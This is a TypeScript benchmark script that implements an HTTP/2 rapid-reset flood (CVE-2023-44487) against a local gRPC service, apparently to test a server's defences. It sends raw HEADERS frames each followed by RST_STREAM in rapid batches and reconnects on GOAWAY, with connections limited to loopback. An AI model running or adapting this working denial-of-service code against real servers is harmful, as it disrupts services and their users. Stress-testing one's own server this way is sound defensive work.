// One HTTP/2 rapid-reset client (CVE-2023-44487), for bench/rapid-reset.ts:
// writes raw frames on a TCP socket, a HEADERS frame for a gRPC call (no
// END_STREAM: the request is never complete) followed at once by its
// RST_STREAM, in batches, as fast as the socket takes them, reconnecting
// whenever the server closes the connection or sends GOAWAY, for a bounded
// time. Raw frames
// (not node:http2's client, which queues streams and stalls) keep the
// attacker cheap, as a real one is. Loopback only. Prints one JSON line.
//   tsx bench/rapid-reset-attacker.ts <port> <localAddress> <seconds>
import net from "node:net";

const [portArg, localAddress = "127.0.0.2", secondsArg = "5"] = process.argv.slice(2);
const port = Number(portArg);
const until = Date.now() + Number(secondsArg) * 1000;

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const settings = frame(4, 0, 0, Buffer.alloc(0));
const settingsAck = frame(4, 1, 0, Buffer.alloc(0));
// HPACK: every field a "literal without indexing, new name" (RFC 7541 §6.2.2).
const headerBlock = Buffer.concat(
  [
    [":method", "POST"],
    [":scheme", "http"],
    [":path", "/avnology.identity.v1.IdentityService/GetIdentity"],
    [":authority", `127.0.0.1:${port}`],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ].map(([name, value]) => Buffer.concat([Buffer.from([0, name!.length]), Buffer.from(name!), Buffer.from([value!.length]), Buffer.from(value!)])),
);
const cancel = Buffer.from([0, 0, 0, 8]);

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

let streams = 0;
let sessions = 0;
let refused = 0;

function session(): Promise<void> {
  return new Promise((resolve) => {
    const socket = net.connect({ port, host: "127.0.0.1", localAddress });
    let nextId = 1;
    let open = false;
    socket.on("error", () => undefined);
    // A server that stops reading never drains the socket: end at the deadline regardless.
    const deadline = setTimeout(() => socket.destroy(), Math.max(0, until - Date.now()));
    // Frames from the server are dropped, except GOAWAY: like a real
    // attacker, reconnect at once when the server ends the session (Node
    // stops reading a session it sent GOAWAY on, so waiting only stalls).
    let pending: Buffer = Buffer.alloc(0);
    socket.on("data", (chunk: Buffer) => {
      pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending[3] === 7) return void socket.destroy();
        if (pending.length < 9 + length) break;
        pending = pending.subarray(9 + length);
      }
    });
    socket.once("close", () => {
      clearTimeout(deadline);
      if (!open) refused++;
      resolve();
    });
    socket.once("connect", () => {
      sessions++;
      open = true;
      socket.write(Buffer.concat([preface, settings, settingsAck]));
      const burst = () => {
        if (socket.destroyed || Date.now() >= until || nextId > 2 ** 30) return void socket.destroy();
        const frames: Buffer[] = [];
        for (let i = 0; i < 100; i++, nextId += 2) {
          frames.push(frame(1, 0x4, nextId, headerBlock), frame(3, 0, nextId, cancel));
        }
        streams += 100;
        if (socket.write(Buffer.concat(frames))) setImmediate(burst);
        else socket.once("drain", burst);
      };
      burst();
    });
  });
}

while (Date.now() < until) await session();
process.stdout.write(`${JSON.stringify({ localAddress, streams, sessions, refused })}\n`);
